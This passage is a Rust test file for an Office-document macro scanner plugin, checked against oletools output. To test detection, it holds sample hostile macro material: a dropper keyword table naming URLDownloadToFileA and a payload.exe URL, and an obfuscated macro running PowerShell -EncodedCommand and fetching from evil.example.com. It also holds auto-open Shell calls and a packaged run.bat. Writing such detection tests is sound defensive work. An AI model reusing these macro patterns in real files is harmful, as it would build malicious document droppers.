//! Samples built at test time (`stoq_tests::formats::office`: a compound file writer, an
//! MS-OVBA compressor, VBA projects, docm-like packages) run through [`PluginTest`] as the host runs
//! the plugin, and the same samples broken every way a hostile file may be.
//!
//! Reference values: oletools 0.60.2 (olevba 0.60.2, mraptor 0.56.2, olefile 0.47), run on
//! the samples these tests write to `$STOQ_GOLDEN_SAMPLES` (`olevba --json --attr FILE`,
//! `mraptor -m FILE`, `olefile`'s `listdir`, `get_size`, `getclsid`, `getmtime`).

use std::io::Write;
use std::time::{Duration, Instant};

use stoq_plugin_abi::testing::{PluginTest, TestError};

use super::*;
use stoq_tests::response::{messages, results};

use stoq_tests::formats::office::*;
use stoq_tests::golden;

fn scan(data: &[u8]) -> WorkerResponse {
    PluginTest::<Ole>::new().scan(data).expect("scans")
}

fn filenames(response: &WorkerResponse) -> Vec<&str> {
    response
        .extracted
        .iter()
        .map(|e| {
            e.payload_meta.extra_data["filename"]
                .as_str()
                .expect("a filename")
        })
        .collect()
}

fn child<'r>(response: &'r WorkerResponse, filename: &str) -> &'r ExtractedPayload {
    response
        .extracted
        .iter()
        .find(|e| e.payload_meta.extra_data["filename"] == filename)
        .unwrap_or_else(|| panic!("no child {filename} in {:?}", filenames(response)))
}

fn u16_at(d: &[u8], at: usize) -> u16 {
    u16::from_le_bytes([d[at], d[at + 1]])
}

fn u32_at(d: &[u8], at: usize) -> u32 {
    u32::from_le_bytes([d[at], d[at + 1], d[at + 2], d[at + 3]])
}

fn put_u32(d: &mut [u8], at: usize, v: u32) {
    d[at..at + 4].copy_from_slice(&v.to_le_bytes());
}

fn sector_size(file: &[u8]) -> usize {
    1 << u16_at(file, 30)
}

/// The offset of the directory entry named `name` (the builder writes the directory in one
/// run of sectors).
fn entry_offset(file: &[u8], name: &str) -> usize {
    let ssz = sector_size(file);
    let dir = (u32_at(file, 48) as usize + 1) * ssz;
    let units: Vec<u8> = name.encode_utf16().flat_map(u16::to_le_bytes).collect();
    (dir..file.len() - 127)
        .step_by(128)
        .find(|&o| {
            file[o..o + units.len()] == units[..]
                && usize::from(u16_at(file, o + 64)) == units.len() + 2
        })
        .unwrap_or_else(|| panic!("no entry {name}"))
}

/// The offset of FAT entry `sector` (the builder's files have FAT sectors 0, 1, ...).
fn fat_entry(file: &[u8], sector: u32) -> usize {
    let ssz = sector_size(file);
    let per = ssz / 4;
    let fat_sector = u32_at(file, 76 + 4 * (sector as usize / per));
    (fat_sector as usize + 1) * ssz + 4 * (sector as usize % per)
}

/// The offset of miniFAT entry `mini` (one miniFAT sector).
fn minifat_entry(file: &[u8], mini: u32) -> usize {
    (u32_at(file, 60) as usize + 1) * sector_size(file) + 4 * mini as usize
}

/// The table olevba 0.60.2 prints for [`dropper_project`] (`olevba --json --attr`, the same
/// for the Word 97 file, the vbaProject.bin and the docm, literal-only or with copy tokens).
const DROPPER_KEYWORDS: &[(&str, &str, &str)] = &[
    (
        "AutoExec",
        "AutoOpen",
        "Runs when the Word document is opened",
    ),
    (
        "Suspicious",
        "Environ",
        "May read system environment variables",
    ),
    (
        "Suspicious",
        "Shell",
        "May run an executable file or a system command",
    ),
    (
        "Suspicious",
        "vbHide",
        "May run an executable file or a system command",
    ),
    ("Suspicious", "Lib", "May run code from a DLL"),
    (
        "Suspicious",
        "URLDownloadToFileA",
        "May download files from the Internet",
    ),
    ("IOC", "http://203.0.113.7/payload.exe", "URL"),
    ("IOC", "203.0.113.7", "IPv4 address"),
    ("IOC", "payload.exe", "Executable file name"),
];

fn keyword_rows(results: &Value) -> Vec<(String, String, String)> {
    results["keywords"]
        .as_array()
        .expect("keywords")
        .iter()
        .map(|k| {
            (
                k["type"].as_str().unwrap().to_owned(),
                k["keyword"].as_str().unwrap().to_owned(),
                k["description"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

fn rows(expected: &[(&str, &str, &str)]) -> Vec<(String, String, String)> {
    expected
        .iter()
        .map(|(a, b, c)| ((*a).to_owned(), (*b).to_owned(), (*c).to_owned()))
        .collect()
}

/// Checks the dropper's macros as olevba and mraptor see them.
fn assert_dropper_macros(results: &Value, vba_root: &str) {
    let prefix = if vba_root.is_empty() {
        String::new()
    } else {
        format!("{vba_root}/")
    };
    assert_eq!(results["macros"], true);
    let project = &results["vba_projects"][0];
    assert_eq!(project["storage"], vba_root);
    assert_eq!(project["name"], "Project");
    assert_eq!(project["codepage"], 1252);
    let modules = project["modules"].as_array().unwrap();
    // olevba: vba_filename and ole_stream of each macro.
    let listed: Vec<(&str, &str, &str, &str)> = modules
        .iter()
        .map(|m| {
            (
                m["name"].as_str().unwrap(),
                m["filename"].as_str().unwrap(),
                m["stream"].as_str().unwrap(),
                m["type"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        listed,
        [
            (
                "ThisDocument",
                "ThisDocument.cls",
                &*format!("{prefix}VBA/ThisDocument"),
                "document"
            ),
            (
                "Module1",
                "Module1.bas",
                &*format!("{prefix}VBA/Module1"),
                "procedural"
            ),
        ]
    );
    // The source as stored; olevba's `code` is the same, stripped.
    assert_eq!(modules[0]["code"], this_document(""));
    assert_eq!(modules[1]["code"], module("Module1", DROPPER));
    assert!(modules.iter().all(|m| m["truncated"] == false));
    // mraptor 0.56.2: SUSPICIOUS, AWX, matches AutoOpen, URLDownloadToFile,
    // `Declare PtrSafe Function URLDownloadToFile Lib`.
    assert_eq!(
        results["flags"],
        json!({
            "autoexec": true, "write": true, "execute": true, "download": true,
            "suspicious": true, "mraptor": "AWX",
            "matches": {
                "autoexec": "AutoOpen",
                "write": "URLDownloadToFile",
                "execute": "Declare PtrSafe Function URLDownloadToFile Lib",
                "download": "URLDownloadToFile",
            },
        })
    );
    assert_eq!(keyword_rows(results), rows(DROPPER_KEYWORDS));
}

#[test]
fn a_word97_file_lists_its_streams_and_reads_its_macros() {
    let project = dropper_project();
    let file = word97(&project);
    let response = scan(&file);
    assert!(response.errors.is_empty(), "{:?}", response.errors);
    let results = results(&response);
    assert_eq!(results["format"], "ole2");
    assert_eq!(
        results["header"],
        json!({"major_version": 3, "minor_version": 62, "sector_size": 512,
               "mini_sector_size": 64, "mini_stream_cutoff": 4096, "sectors": 21,
               "fat_sectors": 1})
    );
    // olefile 0.47 on the same bytes: root CLSID and mtime, listdir order, sizes.
    assert_eq!(
        results["root"],
        json!({"clsid": "00020906-0000-0000-C000-000000000046", "created": null,
               "modified": "2024-01-02T03:04:05Z"})
    );
    let listing: Vec<(&str, &str, Option<u64>)> = results["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["path"].as_str().unwrap(),
                e["type"].as_str().unwrap(),
                e["size"].as_u64(),
            )
        })
        .collect();
    assert_eq!(
        listing,
        [
            ("\u{1}CompObj", "stream", Some(8)),
            ("\u{5}SummaryInformation", "stream", Some(8)),
            ("1Table", "stream", Some(600)),
            ("Macros", "storage", None),
            ("Macros/PROJECT", "stream", Some(396)),
            ("Macros/PROJECTwm", "stream", Some(65)),
            ("Macros/VBA", "storage", None),
            ("Macros/VBA/Module1", "stream", Some(524)),
            ("Macros/VBA/ThisDocument", "stream", Some(324)),
            ("Macros/VBA/_VBA_PROJECT", "stream", Some(7)),
            ("Macros/VBA/dir", "stream", Some(619)),
            ("WordDocument", "stream", Some(4608)),
        ]
    );
    assert_eq!(
        results["entries"][3],
        json!({"path": "Macros", "type": "storage",
               "created": "2024-01-02T03:04:05Z", "modified": "2024-01-02T03:04:05Z"})
    );
    assert_eq!(
        (results["streams"].clone(), results["storages"].clone()),
        (json!(10), json!(2))
    );
    assert_eq!(results["unreachable_entries"], 0);
    assert_dropper_macros(results, "Macros");

    // Every stream is extracted under its path, with its bytes.
    assert_eq!(
        filenames(&response),
        listing
            .iter()
            .filter(|(_, kind, _)| *kind == "stream")
            .map(|(path, _, _)| *path)
            .collect::<Vec<_>>()
    );
    let streams: std::collections::HashMap<String, Vec<u8>> = project
        .streams()
        .into_iter()
        .map(|(path, data)| (format!("Macros/{path}"), data))
        .collect();
    for extracted in &response.extracted {
        let name = extracted.payload_meta.extra_data["filename"]
            .as_str()
            .unwrap();
        if let Some(data) = streams.get(name) {
            assert_eq!(&extracted.content, data, "{name}");
        }
        assert!(extracted.payload_meta.dispatch_to.is_empty(), "{name}");
    }
    assert_eq!(child(&response, "1Table").content, vec![0x22; 600]);
    assert_eq!(child(&response, "WordDocument").content.len(), 4608);
}

#[test]
fn a_vba_project_bin_with_copy_tokens_and_a_text_offset_reads_the_same() {
    let mut project = dropper_project();
    project.copy_tokens = true;
    project.text_offset = 0x53; // p-code before the source, as Office writes it
    for file in [project.bin(), CfbBuilder::v4().vba("", &project).build()] {
        let response = scan(&file);
        assert!(response.errors.is_empty(), "{:?}", response.errors);
        let results = results(&response);
        assert_dropper_macros(results, "");
        // The copy tokens made the streams smaller than the literal-only ones.
        let module1 = results["entries"]
            .as_array()
            .unwrap()
            .iter()
            .find(|e| e["path"] == "VBA/Module1")
            .unwrap();
        assert!(
            module1["size"].as_u64().unwrap() < 0x53 + 425 + 10,
            "{module1}"
        );
    }
    let v4 = scan(&CfbBuilder::v4().vba("", &project).build());
    assert_eq!(results(&v4)["header"]["major_version"], 4);
    assert_eq!(results(&v4)["header"]["sector_size"], 4096);
}

#[test]
fn a_docm_extracts_its_vba_project_and_embedded_object_for_ole_again() {
    let project = dropper_project();
    let docm = docm(&project);
    let response = scan(&docm);
    assert!(response.errors.is_empty(), "{:?}", response.errors);
    let info = results(&response);
    assert_eq!(info["format"], "ooxml");
    assert_eq!(info["macros"], true);
    assert_eq!(info["macro_content_types"], true);
    assert_eq!(info["parts"], 6);
    assert_eq!(info["vba_project_parts"], json!(["word/vbaProject.bin"]));
    assert_eq!(
        info["content_types"],
        json!([
            {"part": "/word/document.xml", "content_type": "application/vnd.ms-word.document.macroEnabled.main+xml"},
            {"part": "/word/vbaData.xml", "content_type": "application/vnd.ms-word.vbaData+xml"},
        ])
    );
    assert_eq!(
        info["default_content_types"][0],
        json!({"extension": "bin", "content_type": "application/vnd.ms-office.vbaProject"})
    );
    assert_eq!(
        info["objects"],
        json!([
            {"part": "word/vbaProject.bin", "role": "vba_project", "size": project.bin().len(), "extracted": true},
            {"part": "word/embeddings/oleObject1.bin", "role": "embedding", "size": packager_object("run.bat", b"@echo off\r\ncalc.exe\r\n").len(), "extracted": true},
        ])
    );
    // The package itself has no VBA source: the flags are those of no code.
    assert_eq!(info["flags"]["suspicious"], false);
    assert_eq!(info["keywords"], json!([]));

    assert_eq!(
        filenames(&response),
        ["word/vbaProject.bin", "word/embeddings/oleObject1.bin"]
    );
    let bin = child(&response, "word/vbaProject.bin");
    assert_eq!(bin.content, project.bin());
    assert_eq!(bin.payload_meta.dispatch_to, ["ole"]);
    // What `ole` then finds in it.
    let inner = scan(&bin.content);
    assert_dropper_macros(results(&inner), "");

    // The embedded Packager object: its Ole10Native stream's file comes out by name.
    let object = child(&response, "word/embeddings/oleObject1.bin");
    assert_eq!(object.payload_meta.dispatch_to, ["ole"]);
    let packager = scan(&object.content);
    assert!(packager.errors.is_empty(), "{:?}", packager.errors);
    assert_eq!(filenames(&packager), ["run.bat", "\u{1}Ole10Native"]);
    let bat = child(&packager, "run.bat");
    assert_eq!(bat.content, b"@echo off\r\ncalc.exe\r\n");
    // stoq's encoding of bytes: each backslash doubled.
    assert_eq!(
        bat.payload_meta.extra_data["source_path"],
        "C:\\\\Users\\\\a\\\\run.bat"
    );
    assert_eq!(
        bat.payload_meta.extra_data["ole10native"],
        "\u{1}Ole10Native"
    );
    assert_eq!(
        results(&packager)["entries"][0]["ole10native"],
        json!({"label": "run.bat", "path": "C:\\\\Users\\\\a\\\\run.bat", "size": 21})
    );
    assert_eq!(
        results(&packager)["root"]["clsid"],
        "0003000C-0000-0000-C000-000000000046"
    );
}

/// A docm written by the zip crate with deflate, as Office writes them.
fn deflated_docm(project: &VbaProject, extra: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    let mut parts = docm_parts(&project.bin(), Some(&packager_object("a.txt", b"a")));
    parts.extend(extra.iter().map(|(n, d)| ((*n).to_owned(), d.to_vec())));
    for (name, data) in parts {
        writer.start_file(name, options).unwrap();
        writer.write_all(&data).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

#[test]
fn a_deflated_xlsm_like_package_is_read_the_same() {
    let project = dropper_project();
    let package = deflated_docm(
        &project,
        &[
            ("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>"),
            (
                "word/activeX/activeX1.bin",
                &CfbBuilder::new().stream("contents", b"x").build(),
            ),
        ],
    );
    let response = scan(&package);
    assert!(response.errors.is_empty(), "{:?}", response.errors);
    let results = results(&response);
    assert_eq!(results["macros"], true);
    assert_eq!(
        results["xlm_macrosheets"],
        json!(["xl/macrosheets/sheet1.xml"])
    );
    assert_eq!(
        filenames(&response),
        [
            "word/vbaProject.bin",
            "word/embeddings/oleObject1.bin",
            "word/activeX/activeX1.bin"
        ]
    );
    assert_eq!(
        child(&response, "word/vbaProject.bin").content,
        project.bin()
    );
}

#[test]
fn an_odf_package_extracts_its_objects_and_scans_its_basic_macros() {
    let module = r#"<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd">
<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Document_Open
    Shell(&quot;cmd /c calc.exe&quot;, 0)
End Sub
</script:module>"#;
    let ole = CfbBuilder::new().stream("Contents", b"embedded").build();
    let odt = stored_zip(&[
        ("mimetype", b"application/vnd.oasis.opendocument.text"),
        ("content.xml", b"<office:document-content/>"),
        ("Basic/script-lc.xml", b"<library:libraries/>"),
        ("Basic/Standard/script-lb.xml", b"<library:library/>"),
        ("Basic/Standard/Module1.xml", module.as_bytes()),
        ("Object 1", &ole),
        ("Object 2/content.xml", b"<office:document-content/>"),
        ("META-INF/manifest.xml", b"<manifest:manifest/>"),
    ]);
    let response = scan(&odt);
    assert!(response.errors.is_empty(), "{:?}", response.errors);
    let results = results(&response);
    assert_eq!(results["format"], "odf");
    assert_eq!(
        results["mimetype"],
        "application/vnd.oasis.opendocument.text"
    );
    assert_eq!(results["macros"], true);
    assert_eq!(
        results["basic_modules"],
        json!([{"name": "Module1", "stream": "Basic/Standard/Module1.xml",
                "code": "Sub Document_Open\n    Shell(\"cmd /c calc.exe\", 0)\nEnd Sub\n"}])
    );
    assert_eq!(results["flags"]["mraptor"], "A-X");
    assert_eq!(results["flags"]["suspicious"], true);
    assert_eq!(filenames(&response), ["Object 1", "Object 2/content.xml"]);
    assert_eq!(
        child(&response, "Object 1").payload_meta.dispatch_to,
        ["ole"]
    );
}

#[test]
fn mraptor_and_olevba_agree_on_an_obfuscated_macro() {
    // olevba 0.60.2 `VBA_Scanner(code).scan()` and mraptor 0.56.2 `MacroRaptor(code)` on this
    // text (lines ending in CRLF).
    let code = [
        "Sub Document_Open()",
        "    Dim s As String, o As Object",
        "    s = StrReverse(\"llehS.tpircSW\")",
        "    Set o = CreateObject(s)",
        "    o.Run \"powershell -noprofile -EncodedCommand \" & Chr(65) & \"...\", 0",
        "    x = \"636D642E657865202F632063616C63\"",
        "    y = \"Y21kLmV4ZSAvYyBjYWxjLmV4ZQ==\"",
        "    z = \"6578652E636C6163\"",
        "    CallByName o, \"Run\", VbMethod, \"calc\"",
        "    Kill \"C:\\temp\\a.txt\"",
        "    Open \"C:\\temp\\b.vbs\" For Output As #1",
        "    Print #1, \"x\"",
        "    Close #1",
        "    w = \"Could contain following functions: EXEC\"",
        "    ActiveDocument.Variables(\"k\").Value = _",
        "        \"http://schemas.microsoft.com/office/x\"",
        "    Set h = CreateObject(\"MSXML2.ServerXMLHTTP.6.0\")",
        "    h.Open \"GET\", \"https://evil.example.com:8080/a/b.php?x=1\", False",
        "End Sub",
        "",
    ]
    .join("\r\n");
    let analysis = scan::analyse(&code);
    let table: Vec<(String, String, String)> = analysis
        .keywords
        .iter()
        .map(|k| (k.kind.to_owned(), k.keyword.clone(), k.description.clone()))
        .collect();
    let obfuscate = "May attempt to obfuscate specific strings (use option --deobf to deobfuscate)";
    assert_eq!(
        table,
        rows(&[
            (
                "AutoExec",
                "Document_Open",
                "Runs when the Word or Publisher document is opened"
            ),
            ("Suspicious", "Open", "May open a file"),
            (
                "Suspicious",
                "Output",
                "May write to a file (if combined with Open)"
            ),
            (
                "Suspicious",
                "Print #",
                "May write to a file (if combined with Open)"
            ),
            ("Suspicious", "Kill", "May delete a file"),
            (
                "Suspicious",
                "Run",
                "May run an executable file or a system command"
            ),
            ("Suspicious", "powershell", "May run PowerShell commands"),
            ("Suspicious", "noprofile", "May run PowerShell commands"),
            (
                "Suspicious",
                "EncodedCommand",
                "May run PowerShell commands"
            ),
            ("Suspicious", "CreateObject", "May create an OLE object"),
            (
                "Suspicious",
                "MSXML2.ServerXMLHTTP",
                "May download files from the Internet"
            ),
            (
                "Suspicious",
                "CallByName",
                "May attempt to obfuscate malicious function calls"
            ),
            ("Suspicious", "Chr", obfuscate),
            ("Suspicious", "StrReverse", obfuscate),
            (
                "Suspicious",
                ".Variables",
                "May use Word Document Variables to store and hide data"
            ),
            (
                "Suspicious",
                "Could contain following functions: EXEC",
                "Could contain a function that allows to run an executable file or a system command using Excel 4 Macros (XLM/XLF)"
            ),
            (
                "Suspicious",
                "Hex Strings",
                "Hex-encoded strings were detected, may be used to obfuscate strings (option --decode to see all)"
            ),
            (
                "Suspicious",
                "Base64 Strings",
                "Base64-encoded strings were detected, may be used to obfuscate strings (option --decode to see all)"
            ),
            ("IOC", "https://evil.example.com:8080/a/b.php?x=1", "URL"),
            ("IOC", "b.vbs", "Executable file name"),
            ("IOC", "cmd.exe", "Executable file name (obfuscation: Hex)"),
            (
                "IOC",
                "calc.exe",
                "Executable file name (obfuscation: Hex+StrReverse)"
            ),
            (
                "Hex String",
                "cmd.exe /c calc",
                "636D642E657865202F632063616C63"
            ),
            ("Hex String", "exe.clac", "6578652E636C6163"),
            (
                "Base64 String",
                "cmd.exe /c calc.exe",
                "Y21kLmV4ZSAvYyBjYWxjLmV4ZQ=="
            ),
        ])
    );
    // mraptor: AWX, matches Document_Open, Kill, CreateObject; SUSPICIOUS.
    let flags = &analysis.flags;
    assert_eq!(flags.mraptor(), "AWX");
    assert_eq!(
        (
            flags.autoexec.as_deref(),
            flags.write.as_deref(),
            flags.execute.as_deref()
        ),
        (Some("Document_Open"), Some("Kill"), Some("CreateObject"))
    );
    assert!(flags.suspicious());
    assert_eq!(flags.download.as_deref(), Some("MSXML2.ServerXMLHTTP.6.0"));
}

#[test]
fn mraptor_flags_follow_its_patterns() {
    let flags = |code: &str| scan::analyse(code).flags;
    // Open ... For Binary on one line writes; Open alone does not.
    assert_eq!(
        flags("Open f For Binary As #1").write.as_deref(),
        Some("Open f For Binary")
    );
    assert_eq!(flags("Open f For Input As #1").write, None);
    // Declare ... Lib executes; autoexec alone is not suspicious.
    assert_eq!(
        flags("Declare Function X Lib \"k\"").execute.as_deref(),
        Some("Declare Function X Lib")
    );
    let only_autoexec = flags("Sub Workbook_Open()\r\nMsgBox 1\r\nEnd Sub");
    assert_eq!(only_autoexec.mraptor(), "A--");
    assert!(!only_autoexec.suspicious());
    // An ActiveX event handler is autoexec; ` _` continuations are joined first.
    assert_eq!(
        flags("Sub InkPicture1_Painted(a)\r\nx = \"a\" & _\r\n CreateObject(\"b\")\r\nEnd Sub")
            .mraptor(),
        "A-X"
    );
    for download in [
        "WinHttp.WinHttpRequest.5.1",
        "Microsoft.XMLHTTP",
        "URLDownloadToFileW",
    ] {
        assert_eq!(
            flags(&format!("x = \"{download}\"")).download.as_deref(),
            Some(download)
        );
    }
    assert_eq!(flags("no macros here").mraptor(), "---");
    // olevba's look-behind: EXEC right after "Could contain following functions: " is not
    // the XLM EXEC keyword.
    let exec = |code: &str| {
        scan::analyse(code)
            .keywords
            .into_iter()
            .filter(|k| {
                k.description
                    .starts_with("May run an executable file or a system command using Excel 4")
            })
            .map(|k| k.keyword)
            .collect::<Vec<_>>()
    };
    assert_eq!(
        exec("Could contain following functions: EXEC"),
        Vec::<String>::new()
    );
    assert_eq!(exec("x = EXEC(\"calc\")"), ["EXEC"]);
}

#[test]
fn non_ascii_code_is_scanned_in_linear_time() {
    // Accented comments: Unicode word boundaries would send every pattern to the slow
    // engines (0.1 MB/s); ASCII ones keep the fast ones.
    let mut code = String::new();
    while code.len() < 1 << 20 {
        code.push_str("' une ligne très ordinaire, été\r\nSub Auto_Open()\r\nShell \"é\"\r\n");
    }
    let start = Instant::now();
    let analysis = scan::analyse(&code);
    assert!(
        start.elapsed() < Duration::from_secs(3),
        "{:?}",
        start.elapsed()
    );
    assert_eq!(analysis.flags.mraptor(), "A-X");
}

#[test]
fn the_decompressor_reads_the_specification_examples() {
    // MS-OVBA 3.2.1 and 3.2.2; olevba's decompress_stream gives the same text.
    let literal = hex_bytes("0119B0006162636465666768006 96A6B6C6D6E6F7000717273747576 2E");
    assert_eq!(
        ovba::decompress(&literal, usize::MAX).data,
        b"abcdefghijklmnopqrstuv."
    );
    let normal = hex_bytes(
        "012FB000236161616263646582660070616768696A0138086 16B6C00306D6E6F70067102700410727374757610 7778797A003C",
    );
    let out = ovba::decompress(&normal, usize::MAX);
    assert_eq!(out.error, None);
    assert_eq!(
        out.data,
        b"#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa"
    );
    // One literal and one copy token of the longest length: 73 bytes (olevba: the same).
    let max = ovba::decompress(&hex_bytes("0103B002614500"), usize::MAX);
    assert_eq!(max.data, vec![b'a'; 73]);
}

fn hex_bytes(text: &str) -> Vec<u8> {
    let digits: Vec<u8> = text.bytes().filter(u8::is_ascii_hexdigit).collect();
    digits
        .chunks(2)
        .map(|p| u8::from_str_radix(std::str::from_utf8(p).unwrap(), 16).unwrap())
        .collect()
}

#[test]
fn the_decompressor_inverts_the_compressor() {
    let mut text = Vec::new();
    for i in 0..3000u32 {
        text.extend_from_slice(format!("Line {i}: Shell \"cmd /c echo {}\"\r\n", i % 7).as_bytes());
    }
    let noise: Vec<u8> = (0..20_000u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    for data in [&text[..], &noise[..], b"", b"a", &[b'z'; 9000][..]] {
        let packed = compress(data, true);
        let out = ovba::decompress(&packed, usize::MAX);
        assert_eq!(out.error, None);
        assert_eq!(out.data, data, "{} bytes", data.len());
        if data.len() >= 9000 {
            assert!(packed.len() < data.len() / 2, "copy tokens compress");
        }
    }
    // Literal-only: one chunk of literals, or raw chunks for full 4096-byte chunks.
    let literal = compress(&text[..3000], false);
    assert_eq!(literal.len(), 1 + 2 + 3000 + 375);
    assert_eq!(ovba::decompress(&literal, usize::MAX).data, &text[..3000]);
    let raw = compress(&noise[..8192], false);
    assert_eq!(raw.len(), 1 + 2 * (2 + 4096));
    assert_eq!(ovba::decompress(&raw, usize::MAX).data, &noise[..8192]);
}

#[test]
fn hostile_compressed_containers_are_errors_and_bounded() {
    // A gigabyte of 'a' in about a megabyte: the output stops at the limit.
    let bomb = compress(&vec![b'a'; 64 << 20], true);
    assert!(bomb.len() < 1 << 20, "{}", bomb.len());
    let start = Instant::now();
    let out = ovba::decompress(&bomb, 1 << 20);
    assert!(out.truncated);
    assert_eq!(out.data.len(), 1 << 20);
    assert!(start.elapsed() < Duration::from_secs(5));

    let cases: [(&[u8], &str); 6] = [
        (b"", "empty compressed container"),
        (
            b"\x02\x00\x00",
            "compressed container: signature byte 0x02, expected 0x01",
        ),
        (
            b"\x01\x00\x00",
            "compressed container: chunk at offset 1 has signature 0, expected 3",
        ),
        (
            b"\x01\x05",
            "compressed container: chunk header cut at offset 1",
        ),
        // A copy token first thing: it reaches before the chunk's start.
        (
            b"\x01\x03\xB0\x01\x00\x00",
            "compressed container: copy token at offset 4 reaches 1 bytes back, 0 decompressed in its chunk",
        ),
        // A flag byte announcing a copy token with one byte left.
        (
            b"\x01\x02\xB0\x01\x00",
            "compressed container: copy token cut at offset 4",
        ),
    ];
    for (input, message) in cases {
        let out = ovba::decompress(input, 1000);
        assert_eq!(out.error.as_deref(), Some(message), "{input:?}");
    }
    // A token whose length runs past the 4096 bytes of a chunk.
    let mut long = vec![0x01, 0, 0, 0x00];
    long.extend(std::iter::repeat_n(b'a', 8));
    // Flag bytes of eight copy tokens each, of the longest length.
    let group: Vec<u8> = std::iter::once(0xFF)
        .chain([0xFF, 0x0F].repeat(8))
        .collect();
    long.extend(group.repeat(70));
    let size = (long.len() - 3 - 3) as u16;
    long[1..3].copy_from_slice(&(0xB000 | size.min(0x0FFF)).to_le_bytes());
    let out = ovba::decompress(&long, usize::MAX);
    assert!(
        out.error
            .as_deref()
            .is_some_and(|e| e.contains("longer than 4096")),
        "{out:?}"
    );
}

#[test]
fn hostile_dir_streams_are_bounded() {
    // Sizes past the end, and a project declaring 65,535 modules holding none.
    let mut d = Vec::new();
    d.extend_from_slice(&0x0004u16.to_le_bytes());
    d.extend_from_slice(&u32::MAX.to_le_bytes());
    let dir = ovba::parse_dir(&d);
    assert_eq!(
        dir.problems,
        ["dir stream: record 0x0004 at offset 0 declares 4294967295 bytes, 0 left"]
    );
    let mut d = Vec::new();
    for (id, body) in [(0x000Fu16, &65535u16.to_le_bytes()[..]), (0x0010, &[])] {
        d.extend_from_slice(&id.to_le_bytes());
        d.extend_from_slice(&(body.len() as u32).to_le_bytes());
        d.extend_from_slice(body);
    }
    let dir = ovba::parse_dir(&d);
    assert_eq!(
        dir.problems,
        ["dir stream: PROJECTMODULES declares 65535 modules, 0 found"]
    );
    // 5,000 modules: the first 1,000 are read.
    let mut d = Vec::new();
    for i in 0..5000 {
        let name = format!("M{i}");
        for (id, body) in [(0x0019u16, name.as_bytes()), (0x002B, &[][..])] {
            d.extend_from_slice(&id.to_le_bytes());
            d.extend_from_slice(&(body.len() as u32).to_le_bytes());
            d.extend_from_slice(body);
        }
    }
    let dir = ovba::parse_dir(&d);
    assert_eq!(dir.modules.len(), ovba::MAX_MODULES);
    assert_eq!(
        dir.problems,
        ["dir stream: more than 1000 modules; the rest are not read"]
    );
}

/// Runs `data` through the plugin, which must not panic and must finish within a second;
/// returns the outcome.
fn bounded(test: &PluginTest<Ole>, data: &[u8]) -> Result<WorkerResponse, TestError> {
    let start = Instant::now();
    let outcome = test.scan(data);
    assert!(
        !matches!(outcome, Err(TestError::Panicked(_) | TestError::Invalid(_))),
        "{outcome:?}"
    );
    assert!(
        start.elapsed() < Duration::from_secs(2),
        "took {:?}",
        start.elapsed()
    );
    outcome
}

#[test]
fn truncated_and_corrupted_files_are_errors_not_panics() {
    let test = PluginTest::<Ole>::new();
    let project = dropper_project();
    let samples = [word97(&project), docm(&project), project.bin()];
    for file in &samples {
        for cut in (0..file.len()).filter(|c| *c < 1100 || c % 61 == 0) {
            let _ = bounded(&test, &file[..cut]);
        }
        for at in (0..file.len()).step_by(13) {
            let mut broken = file.clone();
            broken[at] ^= 0xA5;
            let _ = bounded(&test, &broken);
        }
    }
    let Err(TestError::Failed(message)) = test.scan(&samples[0][..511]) else {
        panic!("511 bytes are no compound file");
    };
    assert_eq!(
        message,
        "not a readable OLE2 file: header: the file (511 bytes) is shorter than its 512-byte header sector"
    );
    assert!(matches!(
        test.scan(b"plain text"),
        Err(TestError::Failed(_))
    ));
    // The file cut inside a stream's sectors: the stream is an error, the rest is read.
    let file = &samples[0];
    let response = scan(&file[..file.len() - 700]);
    let all = messages(&response);
    assert!(all.iter().any(|m| m.starts_with("the file (")), "{all:?}");
    assert!(
        all.iter().any(|m| m.starts_with("stream WordDocument: ")),
        "{all:?}"
    );
    assert!(filenames(&response).contains(&"Macros/VBA/Module1"));
}

#[test]
fn a_looping_fat_chain_is_an_error() {
    let mut file = word97(&dropper_project());
    let at = entry_offset(&file, "WordDocument");
    let first = u32_at(&file, at + 116);
    // The third sector of WordDocument's chain points back at its first.
    let entry = fat_entry(&file, first + 2);
    put_u32(&mut file, entry, first);
    let response = bounded(&PluginTest::new(), &file).unwrap();
    assert_eq!(
        messages(&response),
        [format!(
            "stream WordDocument: 4608 bytes declared in 9 sectors; data: the sector chain loops back to sector {first} after 3 sectors"
        )]
    );
    assert!(!filenames(&response).contains(&"WordDocument"));
    assert_eq!(results(&response)["macros"], true, "the rest is read");

    // The directory's own chain looping: what was read before the loop is used.
    let mut file = word97(&dropper_project());
    let dir = u32_at(&file, 48);
    let mut last = dir;
    while u32_at(&file, fat_entry(&file, last)) != 0xFFFF_FFFE {
        last = u32_at(&file, fat_entry(&file, last));
    }
    let entry = fat_entry(&file, last);
    put_u32(&mut file, entry, dir);
    let response = bounded(&PluginTest::new(), &file).unwrap();
    assert_eq!(
        messages(&response),
        [format!(
            "directory: the sector chain loops back to sector {dir} after 4 sectors"
        )]
    );
    assert_eq!(results(&response)["streams"], 10);
}

#[test]
fn sectors_out_of_range_and_sizes_past_the_file_are_errors() {
    let file = word97(&dropper_project());
    let at = entry_offset(&file, "WordDocument");
    let mut out_of_range = file.clone();
    put_u32(&mut out_of_range, at + 116, 0x00FF_FFFF);
    let response = bounded(&PluginTest::new(), &out_of_range).unwrap();
    assert_eq!(
        messages(&response),
        [
            "stream WordDocument: 4608 bytes declared in 9 sectors; data: the sector chain reaches sector 16777215, out of range (the file holds 21 sectors) after 0 sectors"
        ]
    );
    // A size over the file: refused before anything is allocated.
    let mut huge = file.clone();
    put_u32(&mut huge, at + 120, 0xFFFF_FFF0);
    let response = bounded(
